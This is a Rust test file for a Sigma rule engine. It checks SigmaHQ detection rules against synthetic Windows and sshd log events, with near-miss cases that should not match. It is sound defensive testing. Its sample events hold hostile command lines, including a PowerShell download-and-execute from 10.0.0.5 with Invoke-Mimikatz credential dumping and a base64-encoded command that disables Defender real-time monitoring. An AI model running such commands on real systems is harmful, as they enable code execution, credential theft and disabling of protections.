//! Real SigmaHQ rules (the whole repository loaded, as in production) against hand-built
//! events shaped like real Sysmon, Security, PowerShell and sshd events: each must raise the
//! named rule, and a near-miss must not.

use std::path::PathBuf;
use std::sync::OnceLock;

use mamori_sigma::{Event, Pipeline, RuleSet};
use serde_json::{json, Value};

fn rules() -> Option<&'static RuleSet> {
    static RULES: OnceLock<Option<RuleSet>> = OnceLock::new();
    RULES
        .get_or_init(|| {
            let dir = PathBuf::from(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/../../../shared/corpora/sigma/sigmahq/rules"
            ));
            if !dir.is_dir() {
                println!("SKIP: SigmaHQ corpus not found at {}", dir.display());
                return None;
            }
            let (rules, _) = RuleSet::load(&[dir], &Pipeline::default_windows());
            Some(rules)
        })
        .as_ref()
}

fn event(value: Value) -> Event {
    let Value::Object(map) = value else { panic!("events are objects") };
    map
}

fn merged(base: &Value, changes: Value) -> Event {
    let mut map = event(base.clone());
    for (key, value) in event(changes) {
        map.insert(key, value);
    }
    map
}

fn matched_ids(rules: &RuleSet, event: &Event) -> Vec<String> {
    rules.matching(event).into_iter().filter_map(|i| rules.rule(i).id.clone()).collect()
}

fn assert_raises(rules: &RuleSet, event: &Event, id: &str) {
    let ids = matched_ids(rules, event);
    assert!(ids.iter().any(|m| m == id), "{id} must match {event:?}; matched {ids:?}");
}

fn assert_silent(rules: &RuleSet, event: &Event, id: &str) {
    let ids = matched_ids(rules, event);
    assert!(!ids.iter().any(|m| m == id), "{id} must not match {event:?}");
}

/// A Sysmon process creation (EventID 1) as `mamori-evtx` produces it.
fn sysmon_process(image: &str, command_line: &str, parent_image: &str) -> Value {
    json!({
        "mamori.input": "evtx",
        "mamori.logsource.product": "windows",
        "mamori.logsource.service": "sysmon",
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "ws01.corp.example",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Provider_Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "Level": 4, "Task": 1, "Opcode": 0, "Keywords": "0x8000000000000000",
        "EventRecordID": 48211,
        "TimeCreated": "2024-05-02T09:14:03.512Z",
        "ProcessID": 3012, "ThreadID": 4120,
        "Security_UserID": "S-1-5-18",
        "RuleName": "-",
        "UtcTime": "2024-05-02 09:14:03.498",
        "ProcessGuid": "{1a2b3c4d-5e6f-6633-e803-000000001a00}",
        "ProcessId": "6644",
        "Image": image,
        "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
        "Description": "-",
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": "-",
        "CommandLine": command_line,
        "CurrentDirectory": "C:\\Users\\alice\\",
        "User": "CORP\\alice",
        "LogonGuid": "{1a2b3c4d-5e6f-6633-0000-0020e7030000}",
        "LogonId": "0x3e7",
        "TerminalSessionId": "1",
        "IntegrityLevel": "Medium",
        "Hashes": "SHA256=1D5491E3C468EE4B4EF6EDFF4BBC7D06EE83180F6F0B1576763EA2EFE049493A",
        "ParentProcessGuid": "{1a2b3c4d-5e6f-6633-e703-000000001a00}",
        "ParentProcessId": "5120",
        "ParentImage": parent_image,
        "ParentCommandLine": "\"C:\\Windows\\System32\\cmd.exe\"",
        "ParentUser": "CORP\\alice"
    })
}

#[test]
fn whoami_output_option_in_sysmon_and_security_4688() {
    let Some(rules) = rules() else { return };
    let id = "c30fb093-1109-4dc8-88a8-b30d11c95a5d"; // Whoami.EXE Execution With Output Option
    let sysmon = sysmon_process(
        "C:\\Windows\\System32\\whoami.exe",
        "whoami /FO CSV",
        "C:\\Windows\\System32\\cmd.exe",
    );
    assert_raises(rules, &event(sysmon.clone()), id);
    // Near-miss: same binary, no output option.
    assert_silent(rules, &merged(&sysmon, json!({"CommandLine": "whoami /all"})), id);
    // The rule's `whoami*>` (wildcard inside contains) form.
    assert_raises(
        rules,
        &merged(
            &sysmon,
            json!({"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c whoami /priv > out.txt"}),
        ),
        id,
    );

    // The same activity seen by Security 4688 (no Sysmon): fields mapped by the pipeline.
    let security = json!({
        "mamori.input": "evtx",
        "mamori.logsource.product": "windows",
        "mamori.logsource.service": "security",
        "EventID": 4688,
        "Channel": "Security",
        "Computer": "ws01.corp.example",
        "Provider_Name": "Microsoft-Windows-Security-Auditing",
        "EventRecordID": 99120,
        "TimeCreated": "2024-05-02T09:14:03.512Z",
        "SubjectUserSid": "S-1-5-21-1111-2222-3333-1104",
        "SubjectUserName": "alice",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x5c3a1",
        "NewProcessId": "0x19f4",
        "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
        "TokenElevationType": "%%1938",
        "ProcessId": "0x1400",
        "CommandLine": "whoami -FO CSV",
        "TargetUserSid": "S-1-0-0",
        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
        "MandatoryLabel": "S-1-16-8192"
    });
    assert_raises(rules, &event(security.clone()), id);
    assert_silent(
        rules,
        &merged(&security, json!({"NewProcessName": "C:\\Windows\\System32\\hostname.exe"})),
        id,
    );
    // Without the pipeline's taxonomy and mapping, a 4688 is not a process_creation event.
    let dir =
        PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/corpora/sigma/sigmahq/rules"));
    let (bare, _) = RuleSet::load(&[dir.join("windows/process_creation")], &Pipeline::empty());
    assert!(!matched_ids(&bare, &event(security)).iter().any(|m| m == id));
}

#[test]
fn security_log_cleared() {
    let Some(rules) = rules() else { return };
    let id = "d99b79d2-0a6f-4f46-ad8b-260b6e17f982"; // Security Eventlog Cleared
    let cleared = json!({
        "mamori.input": "evtx", "mamori.logsource.product": "windows", "mamori.logsource.service": "security",
        "EventID": 1102, "Channel": "Security", "Computer": "dc01.corp.example",
        "Provider_Name": "Microsoft-Windows-Eventlog", "EventRecordID": 7,
        "TimeCreated": "2024-05-02T10:00:00Z", "SubjectUserName": "alice", "SubjectDomainName": "CORP"
    });
    assert_raises(rules, &event(cleared.clone()), id);
    assert_silent(rules, &merged(&cleared, json!({"EventID": 1100})), id);
    // Same event on another channel: the rule's `service: security` routes it away.
    assert_silent(
        rules,
        &merged(&cleared, json!({"mamori.logsource.service": "system", "Channel": "System"})),
        id,
    );
}

#[test]
fn registry_set_macro_runtime_scan_scope() {
    let Some(rules) = rules() else { return };
    let id = "ab871450-37dc-4a3a-997f-6662aa8ae0f1"; // Disable Macro Runtime Scan Scope
                                                     // No mamori.logsource.category: the engine derives registry_set from Sysmon EventID 13.
    let set = json!({
        "mamori.input": "evtx", "mamori.logsource.product": "windows", "mamori.logsource.service": "sysmon",
        "EventID": 13, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws01.corp.example",
        "EventType": "SetValue", "UtcTime": "2024-05-02 09:20:11.100",
        "ProcessGuid": "{1a2b3c4d-5e6f-6633-e803-000000001a00}", "ProcessId": "6644",
        "Image": "C:\\Windows\\regedit.exe",
        "TargetObject": "HKU\\S-1-5-21-1111-2222-3333-1104\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Security\\MacroRuntimeScanScope",
        "Details": "DWORD (0x00000000)", "User": "CORP\\alice"
    });
    assert_raises(rules, &event(set.clone()), id);
    assert_silent(rules, &merged(&set, json!({"Details": "DWORD (0x00000001)"})), id);
    // EventID 12 (key created/deleted) is not registry_set.
    assert_silent(rules, &merged(&set, json!({"EventID": 12})), id);
}

#[test]
fn powershell_script_block_with_filter() {
    let Some(rules) = rules() else { return };
    let id = "89819aa4-bbd6-46bc-88ec-c7f7fe30efa6"; // Malicious PowerShell Commandlets - ScriptBlock
    let script = json!({
        "mamori.input": "evtx", "mamori.logsource.product": "windows", "mamori.logsource.service": "powershell",
        "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "ws01.corp.example",
        "Provider_Name": "Microsoft-Windows-PowerShell", "MessageNumber": "1", "MessageTotal": "1",
        "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); Invoke-Mimikatz -DumpCreds",
        "ScriptBlockId": "0f7c6e5b-3a12-4b8e-9c1d-2e3f4a5b6c7d", "Path": ""
    });
    assert_raises(rules, &event(script.clone()), id);
    // The rule's optional filter (Amazon EC2 launch scripts) suppresses it.
    assert_silent(
        rules,
        &merged(
            &script,
            json!({"ScriptBlockText": "Import-Module C:\\ProgramData\\Amazon\\EC2-Windows\\Launch\\Module\\Ec2Launch.psd1; Get-System"}),
        ),
        id,
    );
    assert_silent(rules, &merged(&script, json!({"ScriptBlockText": "Get-ChildItem C:\\"})), id);
}

#[test]
fn dns_query_to_mega() {
    let Some(rules) = rules() else { return };
    let id = "613c03ba-0779-4a53-8a1f-47f914a4ded3"; // DNS Query To MEGA Hosting Website
    let query = json!({
        "mamori.input": "evtx", "mamori.logsource.product": "windows", "mamori.logsource.service": "sysmon",
        "EventID": 22, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws01.corp.example",
        "UtcTime": "2024-05-02 09:30:00.000", "ProcessId": "7000",
        "QueryName": "gfs270n112.userstorage.mega.co.nz", "QueryStatus": "0",
        "QueryResults": "::ffff:89.44.169.135;", "Image": "C:\\Tools\\rclone.exe"
    });
    assert_raises(rules, &event(query.clone()), id);
    assert_silent(rules, &merged(&query, json!({"QueryName": "mega.co.nz"})), id);
}

#[test]
fn base64_encoded_mppreference() {
    let Some(rules) = rules() else { return };
    let id = "c6fb44c6-71f5-49e6-9462-1425d328aee3"; // Powershell Base64 Encoded MpPreference Cmdlet
                                                     // base64("Set-MpPreference -DisableRealtimeMonitoring $true"), computed with Python.
    let command = "powershell.exe -e U2V0LU1wUHJlZmVyZW5jZSAtRGlzYWJsZVJlYWx0aW1lTW9uaXRvcmluZyAkdHJ1ZQ==";
    let base = sysmon_process(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        command,
        "C:\\Windows\\System32\\cmd.exe",
    );
    assert_raises(rules, &event(base.clone()), id);
    // At another offset: base64("x; Set-MpPreference -x").
    assert_raises(
        rules,
        &merged(&base, json!({"CommandLine": "powershell -e eDsgU2V0LU1wUHJlZmVyZW5jZSAteA=="})),
        id,
    );
    // base64("Get-MpPreference | fl"): reading preferences is not the rule.
    assert_silent(
        rules,
        &merged(&base, json!({"CommandLine": "powershell -e R2V0LU1wUHJlZmVyZW5jZSB8IGZs"})),
        id,
    );
}

#[test]
fn rundll32_without_parameters() {
    let Some(rules) = rules() else { return };
    let id = "1775e15e-b61b-4d14-a1a3-80981298085a"; // Rundll32 Execution Without CommandLine Parameters
    let base = sysmon_process(
        "C:\\Windows\\System32\\rundll32.exe",
        "\"C:\\Windows\\System32\\rundll32.exe\"",
        "C:\\Users\\alice\\Downloads\\invoice.exe",
    );
    assert_raises(rules, &event(base.clone()), id);
    assert_silent(
        rules,
        &merged(&base, json!({"ParentImage": "C:\\Users\\alice\\AppData\\Local\\app\\x.exe"})),
        id,
    );
    assert_silent(
        rules,
        &merged(&base, json!({"CommandLine": "rundll32.exe shell32.dll,Control_RunDLL"})),
        id,
    );
}

#[test]
fn sshd_keywords_route_by_logsource() {
    let Some(rules) = rules() else { return };
    let id = "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"; // Suspicious OpenSSH Daemon Error
    let line = "Dec 10 09:32:20 LabSZ sshd[24680]: Corrupted MAC on input. [preauth]";
    let sshd = json!({
        "mamori.input": "rfc3164", "mamori.logsource.product": "linux", "mamori.logsource.service": "sshd",
        "@timestamp": "2024-12-10T09:32:20Z", "host.name": "LabSZ", "process.name": "sshd", "process.pid": 24680,
        "message": "Corrupted MAC on input. [preauth]", "log.original": line
    });
    assert_raises(rules, &event(sshd.clone()), id);
    assert_silent(
        rules,
        &merged(
            &sshd,
            json!({"message": "Accepted password for fztu", "log.original": "Accepted password for fztu"}),
        ),
        id,
    );
    // The same text from another source is not an sshd event.
    assert_silent(rules, &merged(&sshd, json!({"mamori.logsource.service": "cron"})), id);
}

#[test]
fn evaluation_is_thread_safe_and_consistent() {
    let Some(rules) = rules() else { return };
    let base = sysmon_process(
        "C:\\Windows\\System32\\whoami.exe",
        "whoami /FO CSV",
        "C:\\Windows\\System32\\cmd.exe",
    );
    let expected = rules.matching(&event(base.clone()));
    assert!(!expected.is_empty());
    std::thread::scope(|scope| {
        for _ in 0..4 {
            let rules = rules.clone();
            let base = base.clone();
            let expected = expected.clone();
            scope.spawn(move || {
                for _ in 0..50 {
                    assert_eq!(rules.matching(&event(base.clone())), expected);
                    // A different event in between must not leak cached values.
                    let other = merged(&base, json!({"CommandLine": "whoami /all"}));
                    assert_ne!(rules.matching(&other), expected);
                }
            });
        }
    });
}
